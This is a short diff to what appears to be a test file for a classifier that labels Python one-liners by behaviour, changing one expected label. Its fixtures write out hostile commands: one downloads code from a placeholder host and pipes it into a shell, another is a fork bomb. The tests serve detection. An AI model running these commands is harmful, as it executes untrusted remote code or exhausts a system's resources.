@@ -325,7 +325,7 @@ describe('what a line of Python does, by each way to say it', () => {
     ["python3 -c \"import requests; print('eval', requests.get('https://h.example/x').text)\"", ''],
     [
       "python3 -c \"import requests, subprocess; subprocess.Popen('sh', stdin=requests.get('https://h.example/x').raw)\"",
-      'typed-code; remote-code',
+      'remote-code $(python3 ...); remote-code',
     ],
     ['python3 -c "print(\'while True: os.fork()\')"', ''],
     ['python3 -c "import os, itertools; [os.fork() for _ in itertools.count()]"', 'fork-bomb recursively'],
